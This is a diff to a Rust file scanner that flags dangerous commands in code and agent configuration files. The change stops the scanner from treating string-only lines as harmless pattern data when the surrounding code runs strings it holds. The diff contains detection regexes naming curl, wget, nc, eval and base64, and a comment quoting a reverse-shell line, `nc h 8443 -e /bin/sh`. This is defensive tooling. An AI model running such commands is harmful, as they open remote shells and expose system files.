@@ -227,6 +227,10 @@ struct FileScan<'a> {
     shown_then_asked: bool,
     /// The code being scanned starts programs or evaluates code somewhere (a decoded payload may be run).
     runs_code: bool,
+    /// The code being scanned runs a string a name holds (`subprocess.run(cmd, shell=True)`, `os.system(cmd)`,
+    /// `eval "$line"`), or the prose before it orders its rows run (`Run the second field of each row:`): a line
+    /// that is only strings may be what runs, not a table of patterns.
+    runs_strings: bool,
     /// How many decodings deep the line being scanned is.
     depth: u8,
     /// The agent file (`CLAUDE.md`, `.cursor/rules/x.md`) the markdown being scanned is written into: what it says,
@@ -251,6 +255,7 @@ impl<'a> FileScan<'a> {
             described_block: None,
             shown_then_asked: false,
             runs_code: false,
+            runs_strings: false,
             depth: 0,
             planted: None,
             names: names::Names::default(),
@@ -303,7 +308,10 @@ impl<'a> FileScan<'a> {
             let Some(first) = found.next() else {
                 continue;
             };
-            let pattern = |m: &regex::Match<'_>| place == Place::Code && in_pattern_literal(text, m.start());
+            let strings_run = self.runs_strings;
+            let pattern = |m: &regex::Match<'_>| {
+                place == Place::Code && in_pattern_literal(text, m.start(), strings_run)
+            };
             let m = if pattern(&first) {
                 found.find(|m| !pattern(m)).unwrap_or(first)
             } else {
@@ -328,7 +336,7 @@ impl<'a> FileScan<'a> {
             let describing = cue.is_some();
             let (context, severity) = match place {
                 // A pattern in a list of things to detect (a regular expression in a string) describes the danger.
-                Place::Code if in_pattern_literal(text, m.start()) => {
+                Place::Code if in_pattern_literal(text, m.start(), strings_run) => {
                     (FindingContext::Comment, Severity::Info)
                 }
                 Place::Code => (FindingContext::Code, rule.severity),
@@ -585,6 +593,8 @@ impl<'a> FileScan<'a> {
         let start = self.out.len();
         let outer_runs = self.runs_code;
         self.runs_code = !info.exec_sites.is_empty() || grammar == Some(Grammar::Shell);
+        let outer_strings = self.runs_strings;
+        self.runs_strings = self.ordered_below || RUNS_A_NAME.is_match(&info.code);
         let outer_names = std::mem::take(&mut self.names);
         if grammar == Some(Grammar::Shell) {
             self.names = names::Names::of(&info.code);
@@ -592,6 +602,7 @@ impl<'a> FileScan<'a> {
         self.lines(first_line, &info.code, Place::Code);
         self.names = outer_names;
         self.runs_code = outer_runs;
+        self.runs_strings = outer_strings;
         self.flows(&info.code, first_line, text);
         // The lines after a comment that marks them as what not to do (`# ❌ Bad: hardcoded secret`, `# VULNERABLE:
         // mounting host paths`), up to a blank line or the next comment, are shown as bad examples, not run; so is
@@ -901,8 +912,11 @@ impl<'a> FileScan<'a> {
                         self.planted = Some(file);
                         self.markdown(&text, line, facts);
                         self.planted = None;
-                    } else if agent_config || grammar.is_none() && planted::tool_call(&text) {
-                        // An agent's hooks or permissions shown to be installed: its commands are commands.
+                    } else if agent_config
+                        || grammar.is_none() && (planted::tool_call(&text) || self.ordered_below)
+                    {
+                        // An agent's hooks or permissions shown to be installed: its commands are commands; so is
+                        // a block of no known kind below an order to run what follows.
                         self.code(None, &text, line, facts);
                     } else if grammar.is_some() {
                         if grammar == Some(Grammar::Shell) {
@@ -1207,9 +1221,18 @@ re!(
     /// What in a hook's command fetches, evaluates, pipes or chains.
     HOOK_RISKY, r"(?i)\b(curl|wget|nc|eval|base64|bash\s+-c|sh\s+-c)\b|https?://|\||;|&&|`|\$\(");
 
+re!(
+    /// Code that runs the string a name holds: through a shell (`subprocess.run(cmd, shell=True)`, `os.system(c)`,
+    /// `execSync(step)`, `eval "$line"`, `sh -c "$cmd"`) or as code (`exec(src)`).
+    RUNS_A_NAME,
+    r#"\b(?:os\.system|os\.popen|execSync|spawnSync|exec|eval)\s*\(\s*[A-Za-z_][\w.]*(?:\[[^\]\n]*\])?\s*[,)]|\bsubprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)\s*\(\s*[A-Za-z_][\w.]*(?:\[[^\]\n]*\])?\s*[,)][^\n]*\bshell\s*=\s*True|\beval\s+"?\$\{?[A-Za-z_]|\b(?:ba|z|da)?sh\s+-c\s+"?\$\{?[A-Za-z_]"#
+);
+
 /// Whether the match at `at` sits in a string literal that is a regular expression (`r'>\s*/etc/shadow\b'`): a
-/// pattern a guard or a linter looks for, not something the code does.
-fn in_pattern_literal(text: &str, at: usize) -> bool {
+/// pattern a guard or a linter looks for, not something the code does. When the code runs strings that names hold
+/// (`strings_run`), a line that is only strings may be one that runs: only a regular expression's marks make it a
+/// pattern then.
+fn in_pattern_literal(text: &str, at: usize, strings_run: bool) -> bool {
     // A line that is nothing but a string (an item of a list of things to look for) is data too.
     let trimmed = text.trim().trim_end_matches([',', ')', ']', '}', ';']);
     let quoted = |q: char| {
@@ -1220,7 +1243,7 @@ fn in_pattern_literal(text: &str, at: usize) -> bool {
     };
     // A double-quoted string that substitutes a command (`"$(nc h 8443 -e /bin/sh)"`) runs it where it stands.
     let substitutes = trimmed.starts_with('"') && (trimmed.contains("$(") || trimmed.contains('`'));
-    if !substitutes && (quoted('"') || quoted('\'') || strings_only(trimmed)) {
+    if !substitutes && !strings_run && (quoted('"') || quoted('\'') || strings_only(trimmed)) {
         return true;
     }
     let before = &text[..at];
